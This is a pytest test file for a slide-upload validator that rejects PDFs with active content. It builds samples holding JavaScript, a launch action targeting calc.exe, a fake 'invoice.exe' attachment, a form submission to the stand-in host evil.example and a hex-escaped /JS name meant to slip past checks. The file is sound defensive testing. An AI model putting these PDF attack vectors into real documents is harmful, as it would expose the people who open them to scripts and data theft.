"""Slides with active content (JavaScript, launch actions, embedded files, automatic actions,
rich media, XFA) are refused, saying what was found; ordinary decks, links and bookmarks pass.
Every PDF is built by pypdf here."""

from collections.abc import Callable
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from media_library.models import MediaAsset, Presentation
from tests.media_library import helpers


def _name(text: str) -> NameObject:
    return NameObject(text)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _annotation(writer: PdfWriter, **entries) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 90, 30)]),
        }
    )
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value
    page = writer.pages[0]
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _js() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert('hello')"))


def _document_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('opened')"))


def _open_action_javascript(writer):
    writer.root_object[_name("/OpenAction")] = writer._add_object(_js())


def _launch(writer):
    launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe"))
    writer.root_object[_name("/OpenAction")] = launch


def _embedded_file(writer):
    writer.add_attachment("invoice.exe", b"MZ not really a program")


def _file_attachment_annotation(writer):
    _annotation(writer, Subtype=_name("/FileAttachment"), Contents=TextStringObject("see"))


def _page_additional_action(writer):
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _js()})


def _link_running_javascript(writer):
    _annotation(writer, Subtype=_name("/Link"), A=_js())


def _javascript_chained_after_a_harmless_link(writer):
    go_to = _action("/URI", URI=TextStringObject("https://www.ungm.org/"), Next=_js())
    _annotation(writer, Subtype=_name("/Link"), A=go_to)


def _rich_media(writer):
    _annotation(writer, Subtype=_name("/RichMedia"), RichMediaContent=DictionaryObject())


def _xfa_form(writer):
    form = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )
    writer.root_object[_name("/AcroForm")] = writer._add_object(form)


def _submit_form(writer):
    _annotation(
        writer,
        Subtype=_name("/Link"),
        A=_action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
    )


ACTIVE: dict[str, tuple[Callable[[PdfWriter], None], str]] = {
    "document JavaScript": (_document_javascript, "JavaScript"),
    "JavaScript open action": (_open_action_javascript, "JavaScript"),
    "launch open action": (_launch, "a launch action"),
    "embedded file": (_embedded_file, "embedded files"),
    "file attachment annotation": (_file_attachment_annotation, "embedded files"),
    "page additional action": (_page_additional_action, "automatic actions"),
    "link running JavaScript": (_link_running_javascript, "JavaScript"),
    "JavaScript after a link": (_javascript_chained_after_a_harmless_link, "JavaScript"),
    "rich media": (_rich_media, "rich media"),
    "XFA form": (_xfa_form, "an XFA form"),
    "form submission": (_submit_form, "a form submission action"),
}


def _deck(path: Path, change: Callable[[PdfWriter], None] | None = None, **write) -> Path:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=842, height=595)
    if change:
        change(writer)
    if write.get("password") is not None:
        writer.encrypt(user_password=write["password"], owner_password="owner")
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def _upload_slides(client, session, path):
    return helpers.upload(client, session=session, path=path, kind="slides", title="Deck")


@pytest.mark.parametrize("case", ACTIVE, ids=list(ACTIVE))
def test_slides_with_active_content_are_refused_saying_what(
    presenter_client, session_with_agency, local_storage, tmp_path, case
):
    change, what = ACTIVE[case]
    deck = _deck(tmp_path / "deck.pdf", change)
    answer = _upload_slides(presenter_client, session_with_agency, deck)
    assert answer.status_code == 422, answer.content
    message = answer.json()["error"]
    assert message.startswith("The PDF contains ")
    assert what in message
    assert "export or print them to PDF again" in message
    assert helpers.nothing_left(local_storage)
    assert not Presentation.objects.exists()


def test_several_kinds_are_named_once_each(
    presenter_client, session_with_agency, local_storage, tmp_path
):
    def everything(writer):
        _document_javascript(writer)
        _launch(writer)
        _embedded_file(writer)
        _page_additional_action(writer)

    answer = _upload_slides(
        presenter_client, session_with_agency, _deck(tmp_path / "d.pdf", everything)
    )
    message = answer.json()["error"]
    assert message.count("JavaScript") == 1
    for what in ("a launch action", "embedded files", "automatic actions"):
        assert message.count(what) == 1


def test_a_hex_escaped_name_hides_nothing(
    presenter_client, session_with_agency, local_storage, tmp_path
):
    """``/J#53`` is ``/JS`` to a reader, so it is to the check too."""
    deck = _deck(tmp_path / "plain.pdf", _link_running_javascript)
    data = deck.read_bytes()
    assert data.count(b"/JS ") == 1
    deck.write_bytes(data.replace(b"/JS ", b"/J#53"))  # same length: offsets stay right
    answer = _upload_slides(presenter_client, session_with_agency, deck)
    assert answer.status_code == 422
    assert "JavaScript" in answer.json()["error"]


def _links_and_bookmarks(writer):
    link = _action("/URI", URI=TextStringObject("https://www.ungm.org/"))
    _annotation(writer, Subtype=_name("/Link"), A=link)
    writer.add_outline_item(title="Agenda", page_number=1)
    # Open on the first page, fitted: an OpenAction that is a destination, not a script.
    fit = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    writer.root_object[_name("/OpenAction")] = fit
    writer.root_object[_name("/PageMode")] = _name("/UseOutlines")
    go_to = _action("/GoTo", D=ArrayObject([writer.pages[2].indirect_reference, _name("/Fit")]))
    writer.pages[1][_name("/Annots")] = ArrayObject(
        [
            writer._add_object(
                DictionaryObject(
                    {
                        _name("/Type"): _name("/Annot"),
                        _name("/Subtype"): _name("/Link"),
                        _name("/Rect"): ArrayObject([NumberObject(0)] * 4),
                        _name("/A"): go_to,
                    }
                )
            )
        ]
    )


@pytest.mark.parametrize(
    "change", [None, _links_and_bookmarks], ids=["plain", "links and bookmarks"]
)
def test_ordinary_decks_are_accepted(
    presenter_client, session_with_agency, local_storage, tmp_path, change
):
    deck = _deck(tmp_path / "deck.pdf", change)
    answer = _upload_slides(presenter_client, session_with_agency, deck)
    assert answer.status_code == 200, answer.content
    asset = MediaAsset.objects.get(pk=answer.json()["asset_id"])
    assert (asset.status, asset.probe) == ("ready", {"pages": 3})


def test_a_deck_anyone_can_open_is_checked_through_its_encryption(
    presenter_client, session_with_agency, local_storage, tmp_path
):
    clean = _deck(tmp_path / "clean.pdf", password="")
    assert _upload_slides(presenter_client, session_with_agency, clean).status_code == 200
    scripted = _deck(tmp_path / "scripted.pdf", _open_action_javascript, password="")
    answer = _upload_slides(presenter_client, session_with_agency, scripted)
    assert answer.status_code == 422
    assert "JavaScript" in answer.json()["error"]


def test_a_deck_that_needs_a_password_is_refused(
    presenter_client, session_with_agency, local_storage, tmp_path
):
    deck = _deck(tmp_path / "locked.pdf", password="secret")
    answer = _upload_slides(presenter_client, session_with_agency, deck)
    assert answer.status_code == 422
    assert "protected by a password" in answer.json()["error"]
    assert helpers.nothing_left(local_storage)
